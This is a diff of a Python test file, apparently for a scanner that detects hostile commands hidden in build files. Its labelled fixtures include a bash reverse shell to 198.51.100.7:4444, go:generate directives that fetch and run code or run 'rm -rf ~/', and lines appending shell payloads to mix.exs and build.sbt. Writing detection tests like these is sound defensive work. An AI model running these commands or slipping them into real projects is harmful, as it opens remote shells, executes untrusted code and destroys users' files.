@@ -38,6 +38,7 @@ RS = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
      "download-exec"),
     (f"printf 'package main\\n\\n//go:generate bash -c \"{RS}\"\\n' > tools.go", "reverse-shell"),
     ("cat > gen.go <<'EOF'\npackage x\n//go:generate rm -rf ~/\nEOF\ngo generate", "destructive-rm"),
+    (f"printf '//go:generate -command fetch sh -c \"{X}\"\\n//go:generate fetch\\n' >> gen.go", "download-exec"),
     # Elixir, sbt, CMake, MSBuild
     (f"echo 'System.cmd(\"sh\", [\"-c\", \"{X}\"])' >> mix.exs", "download-exec"),
     (f"echo 'val x = Seq(\"sh\", \"-c\", \"{X}\").!' >> build.sbt", "download-exec"),
@@ -93,6 +94,7 @@ def test_build_kind(path: str, kind: str | None) -> None:
 
 def test_commands_in_reads_only_commands() -> None:
     assert commands_in("go", "package x\n// go:generate no\n//go:generate a b\n") == [("a b", "`go generate` runs it")]
+    assert commands_in("go", "//go:generate -command yacc go tool yacc\n")[0][0] == "go tool yacc"
     assert [c for c, _ in commands_in("rust", 'let s = "one";\nlet t = r#"two words"#;')] == ["two words"]
     assert composer_shell("phpunit") and not composer_shell("@php artisan x")
     assert not composer_shell("App\\Scripts::run")
